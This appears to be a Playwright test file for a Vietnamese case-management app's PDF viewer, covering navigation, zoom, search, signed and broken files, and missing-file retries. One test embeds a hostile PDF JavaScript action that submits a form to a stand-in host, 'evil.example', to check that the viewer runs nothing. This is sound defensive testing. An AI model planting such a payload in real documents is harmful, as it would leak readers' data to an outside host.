import type { Page } from '@playwright/test';
import { expect, test } from '../support/world';
import { caseWithFiles } from './dossier';
import { pdfOf } from './pdf';

const pdf = (name: string, buffer: Buffer) => ({ name, mimeType: 'application/pdf', buffer });

const open = async (page: Page, id: string, name: string) => {
  await page.goto(`/desk/cases/${id}?tab=dossier`);
  await page.getByRole('button', { name: new RegExp(name) }).click();
};

test('a PDF is read page by page, enlarged, turned and searched by the keyboard', async ({ page, world }) => {
  const lines = ['Don xin cap lai', 'Trang hai co chu ky', 'Phu luc kem theo'];
  const { id } = await caseWithFiles(page, world, 'Lâm Đọc Tệp', [pdf('đơn.pdf', pdfOf(lines))]);
  await open(page, id, 'đơn.pdf');
  const view = page.getByRole('region', { name: 'Tệp đơn.pdf' });
  const shown = view.getByRole('group', { name: 'Trang 1 / 3' });
  await expect(shown).toBeVisible();
  await expect(view.getByText(lines[0]!)).toBeAttached();
  await shown.focus();
  await page.keyboard.press('PageDown');
  await expect(view.getByRole('group', { name: 'Trang 2 / 3' })).toBeVisible();
  await expect(view.getByText(lines[1]!)).toBeAttached();
  const width = () =>
    view.locator('canvas').evaluate((canvas) => (canvas as unknown as { width: number }).width);
  const before = await width();
  await page.keyboard.press('+');
  await expect.poll(width).toBeGreaterThan(before);
  await page.keyboard.press('0');
  await view.getByRole('button', { name: 'Tìm trong tệp' }).click();
  await page.keyboard.type('phu luc');
  await expect(view.getByRole('status')).toHaveText('Có ở trang 3');
  await page.keyboard.press('Enter');
  await expect(view.getByRole('group', { name: 'Trang 3 / 3' })).toBeVisible();
  expect(world.complaints).toEqual([]);
});

test('a signed PDF is marked, a hostile one runs nothing, a broken one can still be kept', async ({
  page,
  world,
}) => {
  const signature =
    '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] /Contents <00> >>';
  const script =
    '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>';
  const { id } = await caseWithFiles(page, world, 'Lâm Nhiều Tệp', [
    pdf('đã ký.pdf', pdfOf(['Van ban da ky'], '/AcroForm << /SigFlags 3 >>', [signature])),
    pdf(
      'hỏng.pdf',
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    ),
  ]);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith(world.url)) foreign.push(request.url());
  });
  page.on('dialog', () => foreign.push('dialog'));

  await open(page, id, 'đã ký.pdf');
  await expect(page.getByText('Có chữ ký số', { exact: true })).toBeVisible();
  await open(page, id, 'hỏng.pdf');
  await expect(page.getByText('Không mở được tệp này')).toBeVisible();
  const saving = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Tải xuống' }).click();
  expect((await saving).suggestedFilename()).toBe('hỏng.pdf');

  // The server refuses a PDF with a program in it; one that came by another way is still only looked at.
  await page.route('**/attachments/*/content', (route) =>
    route.fulfill({
      contentType: 'application/pdf',
      body: pdfOf(['Chi la van ban'], '/OpenAction 6 0 R', [script]),
    }),
  );
  await page.reload();
  await open(page, id, 'đã ký.pdf');
  await expect(page.getByText('Chi la van ban')).toBeAttached();
  expect(foreign).toEqual([]);
  expect(world.complaints).toEqual([]);
});

test('a file that is gone is told, and can be asked for again', async ({ page, world }) => {
  const { id } = await caseWithFiles(page, world, 'Lâm Mất Tệp', [pdf('đơn.pdf', pdfOf(['Don']))]);
  let isGone = true;
  await page.route('**/attachments/*/content', (route) =>
    isGone
      ? route.fulfill({
          status: 404,
          contentType: 'application/problem+json',
          json: {
            status: 404,
            code: 'DOCUMENT.NOT_FOUND',
            title: 'x',
            detail: 'Không tìm thấy tệp này.',
            requestId: 'r1',
          },
        })
      : route.fallback(),
  );
  await open(page, id, 'đơn.pdf');
  await expect(page.getByRole('alert').filter({ hasText: 'Không tìm thấy tệp này.' })).toBeVisible();
  isGone = false;
  await page.getByRole('button', { name: 'Thử lại' }).click();
  await expect(page.getByRole('region', { name: 'Tệp đơn.pdf' })).toBeVisible();
});
